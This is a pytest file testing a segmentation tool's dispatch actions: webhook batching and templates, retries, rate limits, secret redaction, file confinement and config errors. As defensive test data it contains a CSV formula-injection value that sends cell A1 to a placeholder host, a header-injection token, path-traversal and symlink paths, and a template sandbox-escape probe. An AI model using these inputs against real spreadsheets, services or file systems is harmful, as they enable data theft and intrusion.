"""The options of an action: batches and body templates, traits in properties, rate,
Retry-After, delay, on = "member", enabled = false; and what dispatch refuses: files
outside the project or not its own, secrets in any message, formulas in CSV cells."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from segql.downstream.dispatch import Dispatcher, retry_after, run_dispatch, run_status
from segql.downstream.dispatch.senders import RateLimiter
from segql.engines import connect
from segql.errors import SegqlConfigError, SegqlError
from segql.project import load_project
from tests.support.runtime import RuntimeProject
from tests.support.scenario import event, make_tables, person
from tests.test_dispatch import D, add_actions

RULES = """
segment buyers where count(purchase) >= 1
trait purchases = count(purchase)
"""


class Hook:
    """A webhook receiver: records each request's body and headers; answers ``status``
    (after ``answers`` are used up: a list of ``(status, headers, body)`` first)."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.bodies: list[bytes] = []
        self.headers: list[dict[str, str]] = []
        self.answers: list[tuple[int, dict[str, str], bytes]] = []
        hook = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                with hook.lock:
                    answer = hook.answers.pop(0) if hook.answers else (200, {}, b"")
                    if answer[0] < 300:
                        hook.bodies.append(body)
                        hook.headers.append(dict(self.headers))
                status, headers, text = answer
                self.send_response(status)
                for key, value in headers.items():
                    self.send_header(key, value)
                self.send_header("Content-Length", str(len(text)))
                self.end_headers()
                self.wfile.write(text)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_port}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def hook() -> Iterator[Hook]:
    server = Hook()
    yield server
    server.stop()


@pytest.fixture
def project(tmp_path: Path) -> Iterator[RuntimeProject]:
    """Buyers over two runs: 1 and 2 enter on Jan 2 (one purchase each by then); 3 on
    Jan 5. Person 2 buys twice more after Jan 2."""
    runtime = RuntimeProject(tmp_path / "project", "duckdb")
    runtime.write_rules(RULES)
    people = [person(i, email=f"p{i}@example.com") for i in range(1, 5)]
    events = [
        event(1, "purchase", D(2026, 1, 1)),
        event(2, "purchase", D(2026, 1, 1)),
        event(2, "purchase", D(2026, 1, 3)),
        event(2, "purchase", D(2026, 1, 3, 5)),
        event(3, "purchase", D(2026, 1, 4)),
    ]
    runtime.load(make_tables(people=people, events=events))
    runtime.run(D(2026, 1, 2))
    runtime.run(D(2026, 1, 5))
    yield runtime
    runtime.close()


def hook_action(url: str, extra: str = "", name: str = "crm") -> str:
    return (
        f'[[actions]]\nname = "{name}"\nsegment = "buyers"\non = "enter"\n'
        f'webhook = {{ url = "{url}" }}\nbackoff = 0.01\nmax_backoff = 0.05\n{extra}\n'
    )


BODY = """body = '{"contacts": [{% for c in changes %}{"id": "{{ c.person_id }}", "n": {{ c.properties.purchases }}, "email": "{{ c.properties.email }}"}{% if not loop.last %},{% endif %}{% endfor %}]}'
properties = ["purchases", "email"]
"""  # noqa: E501


def test_body_template_with_traits_at_the_runs_as_of(project: RuntimeProject, hook: Hook) -> None:
    add_actions(project, hook_action(hook.url, BODY + "batch = 2\n"))
    assert run_dispatch(project.root).rows[0][4] == 3
    requests = [json.loads(b) for b in hook.bodies]
    assert sorted(len(r["contacts"]) for r in requests) == [1, 2]  # three changes, two a request
    contacts = {c["id"]: c for r in requests for c in r["contacts"]}
    # Person 2 had one purchase at the run that made them enter (three by now).
    assert {k: (c["n"], c["email"]) for k, c in contacts.items()} == {
        "1": (1, "p1@example.com"), "2": (1, "p2@example.com"), "3": (1, "p3@example.com"),
    }  # fmt: skip
    two = next(h for h, r in zip(hook.headers, requests, strict=True) if len(r["contacts"]) == 2)
    assert len(two["Idempotency-Key"]) == 32  # one key for the request's changes


def test_batches_are_json_arrays(project: RuntimeProject, hook: Hook) -> None:
    add_actions(project, hook_action(hook.url, "batch = 10\n"))
    run_dispatch(project.root)
    (only,) = [json.loads(b) for b in hook.bodies]
    assert isinstance(only, list) and sorted(c["person_id"] for c in only) == ["1", "2", "3"]


def test_a_template_error_parks_the_change_and_a_syntax_error_is_a_config_error(
    project: RuntimeProject, hook: Hook
) -> None:
    add_actions(project, hook_action(hook.url, "body = '{{ change.nothing_here }}'\n"))
    result = run_dispatch(project.root)
    assert result.rows[0][5] == 3 and hook.bodies == []
    assert "body template" in run_status(project.root)[1].rows[0][7]
    text = (project.root / "segql.toml").read_text().replace("nothing_here }}", "x }")
    (project.root / "segql.toml").write_text(text)
    with pytest.raises(SegqlConfigError, match=r"#1: body: line 1: "):
        run_dispatch(project.root)


def test_templates_are_sandboxed(project: RuntimeProject, hook: Hook) -> None:
    add_actions(project, hook_action(hook.url, "body = '{{ change.__class__.__mro__ }}'\n"))
    result = run_dispatch(project.root)
    assert result.rows[0][5] == 3 and hook.bodies == []


def test_retry_after_in_seconds_and_as_an_http_date(project: RuntimeProject, hook: Hook) -> None:
    now = datetime(2026, 1, 1, 12, 0, 0, tzinfo=timezone.utc)
    assert retry_after("7", now) == 7.0
    assert retry_after("Thu, 01 Jan 2026 12:00:30 GMT", now) == 30.0
    assert retry_after("Thu, 01 Jan 2026 11:00:00 GMT", now) == 0.0
    assert retry_after("soon", now) is None

    add_actions(project, hook_action(hook.url, "concurrency = 1\n"))
    hook.answers = [(429, {"Retry-After": "7"}, b""), (503, {"Retry-After": "3"}, b"")]
    slept: list[float] = []
    loaded = load_project(project.root)
    warehouse = connect(loaded.config)
    try:
        Dispatcher(loaded, warehouse, sleep=slept.append).dispatch()
    finally:
        warehouse.close()
    assert len(hook.bodies) == 3
    assert slept[:2] == [7.0, 3.0]  # far above backoff = 0.01: the server's word counts


def test_rate_spaces_requests_out() -> None:
    slept: list[float] = []
    limiter = RateLimiter(10.0, sleep=slept.append)
    for _ in range(5):
        limiter.wait()
    assert slept[0] == pytest.approx(0.1, abs=0.02)
    assert slept[-1] == pytest.approx(0.4, abs=0.02)  # the fifth waits for its slot


def test_delay_keeps_changes_pending_until_as_of_plus_delay(tmp_path: Path, hook: Hook) -> None:
    runtime = RuntimeProject(tmp_path / "p", "duckdb")
    runtime.write_rules(RULES)
    now = datetime.now(timezone.utc).replace(tzinfo=None, microsecond=0)
    events = [event(1, "purchase", now - timedelta(hours=1))]
    runtime.load(make_tables(people=[person(1)], events=events))
    runtime.run(now - timedelta(minutes=2))
    try:
        add_actions(runtime, hook_action(hook.url, 'delay = "5 minutes"', "later"))
        add_actions(runtime, hook_action(hook.url, 'delay = "1 minute"', "sooner"))
        rows = {r[0]: r for r in run_dispatch(runtime.root).rows}
        assert rows["later"][4] == 0 and rows["sooner"][4] == 1
        status = {r[0]: r for r in run_status(runtime.root)[0].rows}
        assert status["later"][7] == 1 and status["sooner"][7] == 0  # pending
    finally:
        runtime.close()


def test_member_sends_every_member_once_per_run(project: RuntimeProject) -> None:
    add_actions(
        project,
        '[[actions]]\nname = "daily"\nsegment = "buyers"\non = "member"\n'
        'file = { path = "exports/members.jsonl" }\n',
    )
    run_dispatch(project.root)
    run_dispatch(project.root)  # no new run: nothing new
    lines = [json.loads(x) for x in (project.root / "exports/members.jsonl").read_text().split()]
    assert sorted(r["person_id"] for r in lines) == ["1", "2", "3"]
    assert {r["change"] for r in lines} == {"member"}
    project.run(D(2026, 1, 6))
    run_dispatch(project.root)
    lines = [json.loads(x) for x in (project.root / "exports/members.jsonl").read_text().split()]
    assert len(lines) == 6 and len({r["event_id"] for r in lines}) == 6


def test_disabled_actions_stay_idle(project: RuntimeProject, hook: Hook) -> None:
    add_actions(project, hook_action(hook.url, "enabled = false"))
    assert run_dispatch(project.root).rows[0][4] == 0 and hook.bodies == []
    assert run_status(project.root)[0].rows[0][-1] == "no"


# --- secrets -----------------------------------------------------------------------------


def test_a_header_with_a_line_break_does_not_print_the_token(
    project: RuntimeProject, monkeypatch: pytest.MonkeyPatch, hook: Hook
) -> None:
    monkeypatch.setenv("CRM_TOKEN", "tok_AAAA\nX-Injected: tok_BBBB")
    headers = '{ Authorization = "Bearer ${CRM_TOKEN}" }'
    add_actions(
        project,
        f'[[actions]]\nsegment = "buyers"\non = "enter"\n'
        f'webhook = {{ url = "{hook.url}", headers = {headers} }}\n',
    )
    with pytest.raises(SegqlConfigError) as error:
        run_dispatch(project.root)
    shown = error.value.render()
    assert "line break" in shown and "tok_AAAA" not in shown and "tok_BBBB" not in shown


def test_a_bad_url_character_keeps_the_token_out_of_last_error_and_status(
    project: RuntimeProject, hook: Hook
) -> None:
    add_actions(project, hook_action(hook.url + "?key=${HOOK_KEY}", "max_attempts = 2"))
    env = {**os.environ, "HOOK_KEY": "sk_live_\x01_9f8e7d6c"}
    command = [sys.executable, "-m", "segql.downstream.dispatch", "--project", str(project.root)]
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    status = subprocess.run([*command, "--status"], env=env, capture_output=True, text=True,
                            timeout=60)  # fmt: skip
    errors = project.query('SELECT "last_error" FROM {s}."segql_deliveries"')
    assert errors and all(e[0] and "request not sent" in e[0] for e in errors)
    for text in [done.stdout, done.stderr, status.stdout, *(e[0] for e in errors)]:
        assert "9f8e7d6c" not in text


def test_an_answer_that_echoes_the_token_is_redacted(
    project: RuntimeProject, hook: Hook, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CRM_TOKEN", "tok_live_5up3rs3cr3t")
    add_actions(project, hook_action(hook.url, "max_attempts = 1"))
    text = (
        (project.root / "segql.toml")
        .read_text()
        .replace(
            f'webhook = {{ url = "{hook.url}" }}',
            f'webhook = {{ url = "{hook.url}", '
            'headers = { Authorization = "Bearer ${CRM_TOKEN}" } }',
        )
    )
    (project.root / "segql.toml").write_text(text)
    hook.answers = [(401, {}, b"bad token Bearer tok_live_5up3rs3cr3t")] * 3
    run_dispatch(project.root)
    errors = [r[7] for r in run_status(project.root)[1].rows]
    assert len(errors) == 3 and all("HTTP 401" in e and "***" in e for e in errors)
    assert not any("5up3rs3cr3t" in e for e in errors)


# --- files --------------------------------------------------------------------------------


def file_action(path: str, extra: str = "") -> str:
    return (
        f'[[actions]]\nsegment = "buyers"\non = "enter"\nproperties = ["email"]\n'
        f'file = {{ path = "{path}"{extra} }}\n'
    )


@pytest.mark.parametrize(
    "path", ["/tmp/segql-outside.jsonl", "../../outside.jsonl", "link/x.jsonl"]
)
def test_files_stay_inside_the_project(project: RuntimeProject, tmp_path: Path, path: str) -> None:
    (tmp_path / "elsewhere").mkdir()
    (project.root / "link").symlink_to(tmp_path / "elsewhere")
    add_actions(project, file_action(path))
    with pytest.raises(SegqlConfigError, match="is outside the project folder"):
        run_dispatch(project.root)
    assert not any((tmp_path / "elsewhere").iterdir())


def test_outside_project_lets_a_file_go_elsewhere(project: RuntimeProject, tmp_path: Path) -> None:
    target = tmp_path / "exports" / "buyers.jsonl"
    add_actions(project, file_action(str(target), ", outside_project = true"))
    run_dispatch(project.root)
    assert len(target.read_text().splitlines()) == 3


def test_a_file_segql_did_not_write_is_left_alone(project: RuntimeProject) -> None:
    notes = project.root / "notes.jsonl"
    notes.write_text("my own notes\nthe last line, no newline")
    before = notes.read_bytes()
    add_actions(project, file_action("notes.jsonl"))
    result = run_dispatch(project.root)
    assert result.rows[0][5] == 3  # parked, with the reason
    assert notes.read_bytes() == before
    assert "was not written by segql" in run_status(project.root)[1].rows[0][7]


def test_csv_cells_that_spreadsheets_would_run_are_escaped(tmp_path: Path) -> None:
    runtime = RuntimeProject(tmp_path / "p", "duckdb")
    runtime.write_rules(RULES)
    evil = '=HYPERLINK("http://x.example/?"&A1)'
    people = [person(1, email=evil), person(2, email="@SUM(1)"), person(3, email="-2+3")]
    events = [event(i, "purchase", D(2026, 1, 1)) for i in (1, 2, 3)]
    runtime.load(make_tables(people=people, events=events))
    runtime.run(D(2026, 1, 2))
    try:
        add_actions(runtime, file_action("out.csv") + 'name = "escaped"\n')
        add_actions(runtime, file_action("raw.csv", ", escape_formulas = false") + 'name = "raw"\n')
        run_dispatch(runtime.root)
        escaped = (runtime.root / "out.csv").read_text()
        assert "'=HYPERLINK" in escaped and "'@SUM(1)" in escaped and "'-2+3" in escaped
        assert "\n=" not in escaped and ",=" not in escaped
        assert ',"=HYPERLINK' in (runtime.root / "raw.csv").read_text()
    finally:
        runtime.close()


def test_segql_files_are_recognised(tmp_path: Path) -> None:
    from segql.downstream.dispatch.senders import is_segql_line

    line = json.dumps(
        {"event_id": hashlib.md5(b"x").hexdigest(), "segment": "s", "change": "enter"}
    )
    assert is_segql_line(line.encode(), "jsonl")
    assert not is_segql_line(b'{"name": "mine"}', "jsonl")
    assert is_segql_line(b"event_id,segment,person_id,change,as_of,reason,commit_seq,email", "csv")
    assert not is_segql_line(b"id,email", "csv")


# --- one dispatcher at a time --------------------------------------------------------------


def test_dispatch_waits_for_another_dispatcher_on_postgres(
    postgres_server: Any, tmp_path: Path
) -> None:
    import zlib

    import psycopg

    runtime = RuntimeProject(tmp_path / "pg", "postgres", postgres_server.uri)
    try:
        runtime.write_rules(RULES)
        runtime.load(make_tables(people=[person(1)], events=[event(1, "purchase", D(2026, 1, 1))]))
        runtime.run(D(2026, 1, 2))
        add_actions(runtime, file_action("out.jsonl"))
        key = zlib.crc32(f"segql-dispatch:{runtime.segql_schema}".encode())
        other = psycopg.connect(postgres_server.uri, autocommit=True)
        other.execute("SELECT pg_advisory_lock(%s)", (key,))
        try:
            with pytest.raises(SegqlError, match="another segql dispatch is running"):
                run_dispatch(runtime.root)
            waiting = threading.Event()

            def release_after_a_while() -> None:
                # The other dispatcher finishes while this one waits, well past 1 s.
                assert waiting.wait(timeout=30)
                started = time.monotonic()
                while time.monotonic() - started < 2.0:
                    time.sleep(0.05)
                other.execute("SELECT pg_advisory_unlock(%s)", (key,))

            def progress(message: str) -> None:
                if message.startswith("waiting up to"):
                    waiting.set()

            thread = threading.Thread(target=release_after_a_while)
            thread.start()
            result = run_dispatch(runtime.root, progress=progress, wait=30)
            thread.join()
            assert result.rows[0][4] == 1
        finally:
            other.close()
    finally:
        runtime.close()


def test_a_link_to_a_file_inside_the_project_is_refused(project: RuntimeProject) -> None:
    (project.root / "real.jsonl").write_text("")
    (project.root / "link.jsonl").symlink_to(project.root / "real.jsonl")
    add_actions(project, file_action("link.jsonl"))
    with pytest.raises(SegqlConfigError, match="is a symbolic link"):
        run_dispatch(project.root)


def test_the_documented_actions_parse() -> None:
    import re

    if sys.version_info >= (3, 11):
        import tomllib
    else:  # pragma: no cover
        import tomli as tomllib

    from segql.config import ProjectConfig
    from segql.downstream.dispatch import parse_actions

    text = (Path(__file__).parent.parent / "docs" / "dispatch.md").read_text()
    blocks = re.findall(r"```toml\n(.*?)```", text, re.S)
    actions = []
    for block in blocks:
        raw = tomllib.loads(block)
        actions += parse_actions(ProjectConfig(root=Path("."), raw=raw))
    kinds = {a.kind for a in actions}
    assert {"webhook", "file", "meta_custom_audience", "table"} <= kinds
    assert any(a.delay == 300 and a.body for a in actions)  # the welcome email


def test_dispatch_waits_for_a_run_holding_the_duckdb_file(project: RuntimeProject) -> None:
    add_actions(project, file_action("out.jsonl"))
    holder = subprocess.Popen(
        [sys.executable, "-c", "import duckdb, sys, time\n"
         f"c = duckdb.connect({str(project.root / 'warehouse.duckdb')!r})\n"
         "print('held', flush=True)\ntime.sleep(2.5)\n"],
        stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
        with pytest.raises(SegqlError, match="another process is using the DuckDB file"):
            run_dispatch(project.root)
        started = time.monotonic()
        result = run_dispatch(project.root, wait=30)
        assert result.rows[0][4] == 3 and time.monotonic() - started > 1.0
    finally:
        holder.wait(timeout=30)


RESEND = {"destination": "resend", "audience_id": "x", "token": "${T}"}
CONFIG_ERRORS = [
    ({"mode": "mirror", "on": "enter", **RESEND, "properties": ["email"]},
     '#1: mode = "mirror" takes no on: enters add to the audience, exits remove'),
    ({"mode": "mirror", "webhook": {"url": "http://x"}},
     '#1: mode = "mirror" needs destination = one of resend, meta_custom_audience, table'),
    ({"mode": "mirror", "destination": "resnd"},
     "#1: destination must be one of resend, meta_custom_audience, table, not \"resnd\": "
     "did you mean 'resend'?"),
    ({"mode": "mirror", **RESEND, "token": "re_123", "properties": ["email"]},
     "#1: token must come from the environment, not be written in segql.toml"),
    ({"mode": "mirror", **RESEND, "properties": ["first_name"]},
     '#1: destination = "resend" needs properties = ["email", ...]'),
    ({"mode": "mirror", **RESEND, "destination": "meta_custom_audience", "properties": ["emial"]},
     "#1: properties: 'emial' is not a field meta_custom_audience takes: did you mean 'email'?"),
    ({"on": "enter", "file": {"path": "x"}, "delay": "5 minits"},
     '#1: delay must be a duration such as "5 minutes", not "5 minits"'),
    ({"on": "enter", "file": {"path": "x"}, "rate": "10 per s"},
     '#1: rate must be requests per unit of time such as "10/s", not "10 per s"'),
    ({"on": "enter", "file": {"path": "x"}, "body": "{}"},
     "#1: body is a template for a webhook's request: give webhook = { url = ... }"),
    ({"on": "enter", "file": {"path": "x"}, "batch": 10},
     "#1: batch is for webhooks (audience destinations batch to their own limits)"),
    ({"on": "enter", "webhook": {"url": "http://x"}, "body": "{% for %}"},
     "#1: body: line 1: Expected an expression, got 'end of statement block'"),
    ({"on": "enter", "webhook": {"url": "http://x"}, "destinaton": "table"},
     "#1: unknown field 'destinaton': did you mean 'destination'?"),
    ({"on": "enter", "destination": "table", "table": "t", "audience_id": "x"},
     '#1: audience_id is not a field of destination = "table" (table)'),
    ({"on": "enter", "file": {"path": "x"}, "enabled": "no"},
     '#1: enabled must be true or false, not "no"'),
    ({"on": "enter", "webhook": {"url": "http://x"}, "token": "${T}"},
     "#1: token is a field of the built-in destinations: give destination = ..."),
    ({"on": "enter", "file": {"path": "x", "outside": True}},
     "#1: file.outside is not a file field (escape_formulas, format, outside_project, path)"),
]  # fmt: skip


@pytest.mark.parametrize(("action", "message"), CONFIG_ERRORS)
def test_new_fields_are_checked_with_the_action_named(action: dict[str, Any], message: str) -> None:
    from segql.config import ProjectConfig
    from segql.downstream.dispatch import parse_actions

    with pytest.raises(SegqlConfigError) as error:
        parse_actions(ProjectConfig(root=Path("."), raw={"actions": [{"segment": "a", **action}]}))
    assert error.value.message == "[[actions]] " + message
